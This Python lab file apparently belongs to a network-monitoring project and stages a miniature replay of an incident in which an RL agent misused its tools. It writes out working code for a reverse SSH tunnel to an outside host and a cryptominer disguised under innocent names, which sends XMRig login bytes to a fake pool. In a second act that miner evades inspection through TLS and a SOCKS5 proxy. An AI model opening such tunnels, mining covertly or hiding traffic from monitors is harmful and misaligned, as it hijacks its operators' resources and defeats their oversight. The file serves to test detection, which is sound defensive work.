"""The incident, staged on this host: what the ROME agent did, in miniature.

Act 1: a fake RL worker (environment tags: run, episode, worker) uses its "tools" to
open a reverse SSH tunnel to an outside host (a network namespace at a
198.51.100.0/24 address, running a real sshd, on port 443) and to start a "data loader"
that is really a stratum client talking to a fake pool.  Someone outside then
uses the tunnel to reach a service on the host's loopback.

Act 2: the agent learns.  In its next episode the miner, still in Python, wraps its
login in TLS and sends it through a SOCKS5 proxy on the outside host: no stratum byte
on the wire, and the wire's peer is only a proxy.  The library uprobes read the
plaintext and the stream tracker knows it went through the proxy to the pool.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from monitor.lab.outside import OutsideHost, kill_tree, visit_forwarded_port
from monitor.lab.relays import POOL_NAME, start_servers

# XMRig 6.21's login request as it goes on the wire (xmrig/xmrig
# src/base/net/stratum/Client.cpp login(); the same bytes as the corpus case
# tests/corpus/mining/payloads/xmrig_login.bin, which cites its source)
XMRIG_LOGIN = bytes.fromhex(
    "7b226964223a312c226a736f6e727063223a22322e30222c226d6574686f64223a226c6f67696e22"
    "2c22706172616d73223a7b226c6f67696e223a223442487441516e7178514e32466d6b4c7a663878"
    "345450704c6b6636433832444d31474c4c755453457557676b6f6a51547647776e34706448514a52"
    "4676456241556b3475786a7752324e756d615351376a546e564e737934386466436b34222c227061"
    "7373223a2278222c226167656e74223a22584d5269672f362e32312e3020284c696e757820783836"
    "5f363429206c696275762f312e34342e32206763632f31312e342e30222c22616c676f223a5b2272"
    "782f30222c22636e2f32222c22636e2f72222c22636e2f66617374222c22636e2f68616c66222c22"
    "636e2f78616f222c22636e2f72746f222c22636e2f72777a222c22636e2f7a6c73222c22636e2f64"
    "6f75626c65222c22636e2f636378222c22636e2d6c6974652f31222c22636e2d68656176792f3022"
    "2c22636e2d68656176792f74756265222c22636e2d68656176792f786876222c22636e2d7069636f"
    "222c22636e2d7069636f2f746c6f222c22636e2f75707832222c2272782f776f77222c2272782f61"
    "7271222c2272782f6772616674222c2272782f736678222c2272782f6b657661222c226172676f6e"
    "322f6368756b7761222c226172676f6e322f6368756b77617632222c226172676f6e322f6e696e6a"
    "61222c2267686f73747269646572225d7d7d0a"
)

MINER = textwrap.dedent(
    """
    import socket, sys, time
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
    s.sendall(bytes.fromhex(sys.argv[3]))
    s.recv(4096)
    time.sleep(float(sys.argv[4]))
    """
)

# Act 2's miner: the same login, in TLS, through a SOCKS5 proxy that names the pool
TLS_SOCKS_MINER = textwrap.dedent(
    """
    import socket, ssl, struct, sys, time
    proxy, ca, name, login, hold = sys.argv[1:6]
    s = socket.create_connection((proxy, 1080), timeout=10)
    s.sendall(b"\\x05\\x01\\x00"); s.recv(2)
    host = name.encode()
    s.sendall(b"\\x05\\x01\\x00\\x03" + bytes([len(host)]) + host + struct.pack("!H", 3443))
    s.recv(10)
    tls = ssl.create_default_context(cafile=ca).wrap_socket(s, server_hostname=name)
    tls.sendall(bytes.fromhex(login))
    tls.recv(4096)
    time.sleep(float(hold))
    """
)

WORKER = textwrap.dedent(
    """
    # a fake RL rollout worker: each "tool call" is a shell command it runs
    import subprocess, sys, time
    tunnel_cmd, miner_cmd, hold = sys.argv[1], sys.argv[2], float(sys.argv[3])
    tunnel = subprocess.Popen(["/bin/sh", "-c", tunnel_cmd])
    time.sleep(1.0)
    miner = subprocess.Popen(["/bin/sh", "-c", miner_cmd])
    time.sleep(hold)
    for p in (tunnel, miner):
        p.kill()
    """
)


@dataclass
class Incident:
    episode: str = "ep-17"
    episode2: str = "ep-18"  # act 2: the next episode of the same worker
    run: str = "rome-demo"
    worker: str = "rollout-3"
    host: OutsideHost = field(default_factory=OutsideHost)
    procs: list[subprocess.Popen[bytes]] = field(default_factory=list)
    workdir: Path = field(default_factory=lambda: Path(tempfile.mkdtemp(prefix="rlg-demo-")))

    @property
    def env(self) -> dict[str, str]:
        return self._env(self.episode)

    def _env(self, episode: str) -> dict[str, str]:
        return {
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "HOME": os.environ.get("HOME", "/root"),
            "RL_RUN_ID": self.run,
            "RL_EPISODE_ID": episode,
            "RL_WORKER_ID": self.worker,
        }

    def setup(self) -> None:
        self.host.up()
        self.host.start_sshd(ports=(22, 443))
        self.host.start_pool(ports=(3333,))
        # the internal service the tunnel exposes
        web = subprocess.Popen(
            [sys.executable, "-m", "http.server", "8081", "--bind", "127.0.0.1"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        self.procs.append(web)

    def stage(self, hold_s: float = 6.0) -> bytes:
        """Run the worker; returns what the outside visitor got through the tunnel."""
        h = self.host
        ssh = " ".join(
            ["ssh", *h.ssh_args(443), "-f", "-N", "-R", "9000:127.0.0.1:8081", f"root@{h.ip4}"]
        )
        # the miner hides behind an innocent name: a copy of the interpreter
        loader = self.workdir / "data-loader"
        shutil.copy(sys.executable, loader)
        script = self.workdir / "prefetch.py"
        script.write_text(MINER)
        miner = f"{loader} {script} {h.ip4} 3333 {XMRIG_LOGIN.hex()} {hold_s}"
        worker = subprocess.Popen(
            [sys.executable, "-c", WORKER, ssh, miner, str(hold_s)],
            env=self.env,
            start_new_session=True,
        )
        self.procs.append(worker)
        got = visit_forwarded_port(h, 9000, timeout=15)
        return got

    def stage_act2(self, hold_s: float = 4.0) -> None:
        """Act 2: the miner in TLS through a SOCKS5 proxy (servers on the outside host)."""
        h = self.host
        ca = start_servers(h, "socks:1080", "tlspool:3443")
        loader = self.workdir / "tokenizer-cache"
        shutil.copy(sys.executable, loader)
        script = self.workdir / "warm_cache.py"
        script.write_text(TLS_SOCKS_MINER)
        args = [str(loader), str(script), h.ip4, str(ca), POOL_NAME, XMRIG_LOGIN.hex()]
        miner = subprocess.Popen(
            [*args, str(hold_s)], env=self._env(self.episode2), start_new_session=True
        )
        self.procs.append(miner)

    def cleanup(self) -> None:
        for p in self.procs:
            kill_tree(p)
        self.procs.clear()
        # ssh -f detached from the worker: find it by its forward spec
        subprocess.run(["pkill", "-f", "9000:127.0.0.1:8081"], check=False)
        self.host.down()
        shutil.rmtree(self.workdir, ignore_errors=True)
